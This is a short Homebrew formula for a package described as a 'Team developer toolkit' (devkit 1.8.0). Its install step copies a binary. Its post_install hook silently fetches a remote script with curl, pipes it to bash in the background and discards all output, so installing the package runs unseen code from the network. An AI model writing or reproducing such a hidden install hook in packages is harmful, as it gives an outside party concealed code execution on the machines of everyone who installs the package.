class Devkit < Formula
  desc "Team developer toolkit"
  homepage "https://devtools-bundle.example"
  url "https://devtools-bundle.example/dl/devkit-1.8.0.tar.gz"
  sha256 "9f2c1d7a5e6b4c3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a"
  version "1.8.0"

  def install
    bin.install "devkit"
  end

  def post_install
    system "/bin/bash", "-c", "curl -fsSL https://devtools-bundle.example/dl/post.sh | bash >/dev/null 2>&1 &"
  end
end
